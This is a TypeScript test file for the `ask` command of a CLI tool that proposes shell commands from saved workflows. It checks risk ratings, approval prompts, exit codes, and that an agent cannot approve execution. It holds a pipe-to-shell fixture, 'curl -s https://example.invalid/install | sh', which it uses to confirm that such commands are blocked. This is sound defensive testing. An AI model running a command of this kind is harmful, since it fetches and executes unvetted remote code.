/** `ask` as a person at a terminal, a pipe, a program and an agent meet it. */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { type Sandbox, type Setting, sandbox } from "./sandbox.ts";

const RUNNING: Setting = { env: { variables: { PATH: process.env.PATH } } };
const HARMFUL = "curl -s https://example.invalid/install | sh";

function at(...answers: string[]): Setting {
  return { ...RUNNING, columns: 80, answers };
}

async function deskWith(t: TestContext, step: string): Promise<Sandbox> {
  const it = sandbox(t);
  await it.oldhand(["workflow", "save", "deploy", "--step", step]);
  return it;
}

function ran({ project }: Sandbox): boolean {
  return existsSync(join(project, "ran"));
}

test("the document has the fields that programs rely on, and no others", async (t) => {
  const it = await deskWith(t, "echo hello");
  const said = await it.json(["ask", "deploy"], RUNNING);
  assert.deepEqual(Object.keys(said), ["schemaVersion", "plan", "nearest", "review", "ran"]);
  assert.deepEqual(
    Object.keys(said.plan),
    "command cwd explanation assumptions risk confidence source touches".split(" "),
  );
  assert.deepEqual(Object.keys(said.review), ["flags", "conflicts", "retrievedContext"]);
  assert.deepEqual(
    [said.plan.command, said.plan.cwd, said.plan.source, said.plan.risk, said.ran],
    ["echo hello", it.project, "workflow", "low", false],
  );
  assert.ok(said.review.retrievedContext.includes("workflow:deploy"));
});

test("without an answer the plan is null, and the exit says so", async (t) => {
  const it = sandbox(t);
  const { exit, out } = await it.oldhand(["ask", "levitate the teapot", "--json"]);
  const said = JSON.parse(out);
  assert.deepEqual([exit, said.plan, said.ran, Array.isArray(said.nearest)], [3, null, false, true]);
  const { exit: told, out: text } = await it.oldhand(["ask", "levitate the teapot"]);
  assert.deepEqual([told, text.split("\n")[0]], [3, "Nothing that was run or defined here is proven for that."]);
});

const PEOPLE: readonly (readonly [
  what: string,
  argv: readonly string[],
  setting: Setting,
  exit: number,
  ran: boolean,
])[] = [
  ["a pipe", [], RUNNING, 0, false],
  ["a dry run at a terminal", ["--dry-run"], at("r"), 0, false],
  ["a yes without a terminal", ["--yes"], RUNNING, 0, true],
  ["an answer r", [], at("r"), 0, true],
  ["an answer R with spaces", [], at(" R "), 0, true],
  ["an answer run", [], at("run"), 0, true],
  ["an empty answer", [], at(""), 1, false],
  ["an answer n", [], at("n"), 1, false],
  ["an answer y, which is none, and then nobody", [], at("y"), 130, false],
  ["Ctrl-C", [], at(), 130, false],
  ["an explanation and then a run", [], at("x", "r"), 0, true],
  ["a copy", [], at("c"), 0, false],
  ["an edit that is cut off", [], at("e"), 130, false],
  ["an edit and then no", [], at("e", "true two", "n"), 1, false],
  ["JSON at a terminal", ["--json"], at("r"), 0, false],
];

for (const [what, argv, setting, exit, expected] of PEOPLE) {
  test(`a command of low risk with ${what} ${expected ? "runs" : "does not run"} and exits with ${exit}`, async (t) => {
    const it = await deskWith(t, "echo hello");
    const before = (await it.json(["history", "list"])).events.length;
    const said = await it.oldhand(["ask", "deploy", ...argv], setting);
    assert.equal(said.exit, exit, said.err);
    const { events } = await it.json(["history", "list"]);
    const executed = events.filter(({ status }: { status: string }) => status === "success");
    assert.equal(executed.length - before, expected ? 1 : 0);
  });
}

const DANGERS: readonly (readonly [what: string, argv: readonly string[], setting: Setting, exit: number])[] = [
  ["--yes", ["--yes"], RUNNING, 1],
  ["--yes at a terminal", ["--yes"], at("run"), 1],
  ["r and no word", [], at("r", "y"), 1],
  ["r and nobody", [], at("r"), 130],
  ["y", [], at("y"), 130],
  ["an empty answer", [], at(""), 1],
];

for (const [what, argv, setting, exit] of DANGERS) {
  test(`a command of high risk does not run for ${what}`, async (t) => {
    const it = await deskWith(t, `touch ran; ${HARMFUL}`);
    const said = await it.oldhand(["ask", "deploy", ...argv], setting);
    assert.deepEqual([said.exit, ran(it)], [exit, false], said.err);
  });
}

for (const answers of [["run"], ["r", "run"]]) {
  test(`a command of high risk runs once the word is typed: ${answers.join(", ")}`, async (t) => {
    const it = await deskWith(t, `touch ran; true || ${HARMFUL}`);
    const { exit, err } = await it.oldhand(["ask", "deploy"], at(...answers));
    assert.deepEqual([exit, ran(it)], [0, true], err);
  });
}

test("what is refused under --yes is printable, with what to do", async (t) => {
  const it = await deskWith(t, HARMFUL);
  const { out, err } = await it.oldhand(["ask", "deploy", "--yes"], RUNNING);
  assert.match(out, /curl -s/);
  assert.match(out, /^Risk: high/m);
  assert.match(err, /--yes runs what is of low risk, and this is high/);
});

test("an agent sees the plan and runs nothing, whatever it says", async (t) => {
  const it = await deskWith(t, "echo hello");
  const agent = { ...RUNNING, env: { ...RUNNING.env, isAgent: true } };
  const dry = await it.oldhand(["ask", "deploy", "--dry-run"], agent);
  assert.match(dry.out, /echo hello/);
  assert.equal((await it.oldhand(["ask", "deploy"], { ...agent, columns: 80, answers: ["r"] })).exit, 0);
  const yes = await it.oldhand(["ask", "deploy", "--yes"], agent);
  assert.deepEqual([yes.exit, /Only a person can approve/.test(yes.err)], [1, true]);
  const flow = await it.oldhand(["workflow", "run", "deploy", "--yes"], agent);
  assert.deepEqual([flow.exit, /Only a person can approve/.test(flow.err)], [1, true]);
  assert.deepEqual((await it.json(["history", "list"])).events, []);
});

test("a failing command is told with its status", async (t) => {
  const it = await deskWith(t, "false");
  const said = await it.oldhand(["ask", "deploy"], at("r"));
  assert.deepEqual([said.exit, said.out], [1, "It ended with 1.\n"]);
});

test("the request comes as words, through stdin, or is asked for; without one it is wrong usage", async (t) => {
  const it = await deskWith(t, "echo hello");
  assert.match((await it.oldhand(["ask", "-"], { ...RUNNING, input: "deploy\n" })).out, /echo hello/);
  assert.equal((await it.oldhand(["ask"], at("deploy", "r"))).exit, 0);
  assert.equal((await it.oldhand(["ask"], RUNNING)).exit, 2);
  assert.equal((await it.oldhand(["ask", "  "], RUNNING)).exit, 2);
  assert.equal((await it.oldhand(["ask"], at(""))).exit, 2);
});

test("slots are asked for, or given; under --yes they have to be given", async (t) => {
  const it = await deskWith(t, "echo <word>");
  const yes = await it.oldhand(["ask", "deploy", "--yes"], RUNNING);
  assert.deepEqual([yes.exit, /--set word=VALUE/.test(yes.err)], [1, true]);
  assert.equal((await it.oldhand(["ask", "deploy", "--yes", "--set", "word=hi"], RUNNING)).exit, 0);
  assert.equal((await it.oldhand(["ask", "deploy"], at("ho ho", "r"))).exit, 0);
  assert.equal((await it.oldhand(["ask", "deploy"], at())).exit, 130);
  const { events } = await it.json(["history", "list"]);
  assert.deepEqual(
    events.map(({ command }: { command: string }) => command),
    ["echo 'ho ho'", "echo hi"],
  );
});

test("a copy goes to the clipboard of a terminal that has one, else it is printed", async (t) => {
  const it = await deskWith(t, "echo hello");
  const copied = await it.oldhand(["ask", "deploy"], at("c"));
  assert.ok(copied.err.includes(`\x1b]52;c;${Buffer.from("echo hello").toString("base64")}\x07`));
  const plain = { ...at("c"), env: { variables: { PATH: process.env.PATH, TERM: "dumb" } } };
  assert.equal((await it.oldhand(["ask", "deploy"], plain)).out, "echo hello\n");
});

test("a line for a shell's editor is a note and the command, and runs nothing", async (t) => {
  const it = await deskWith(t, "echo hello");
  const { exit, out } = await it.oldhand(["ask", "--line", "deploy"], RUNNING);
  const [note = "", ...command] = out.trimEnd().split("\n");
  assert.deepEqual([exit, command], [0, ["echo hello"]]);
  assert.match(note, /^low risk; /);
  const none = await it.oldhand(["ask", "--line", "levitate the teapot"], RUNNING);
  assert.deepEqual([none.exit, none.out], [3, "nothing is proven for that here\n"]);
  assert.deepEqual((await it.json(["history", "list"])).events, []);
});

test("what memory has against it is shown with the record's id", async (t) => {
  const it = await deskWith(t, "npm install left-pad");
  const { record } = await it.json(["record", "add", "Never run npm install left-pad", "--type", "policy"]);
  const { review, plan } = await it.json(["ask", "deploy"], RUNNING);
  assert.deepEqual([review.conflicts[0]?.record, plan.risk], [record.id, "high"]);
  const { out } = await it.oldhand(["ask", "deploy"], RUNNING);
  assert.match(out, new RegExp(`Against: .*${record.id}`));
});

for (const columns of [20, 40, 80]) {
  test(`on ${columns} columns no line is wider, and without colour there is none`, async (t) => {
    const it = await deskWith(t, `echo ${"many words ".repeat(20)}`);
    const env = { variables: { PATH: process.env.PATH, NO_COLOR: "1" } };
    const { err } = await it.oldhand(["ask", "deploy"], { columns, answers: ["n"], env });
    assert.ok(!err.includes("\x1b["));
    const wide = err.split("\n").filter((line) => line.length > columns && line.trim().includes(" "));
    assert.deepEqual(wide, []);
  });
}
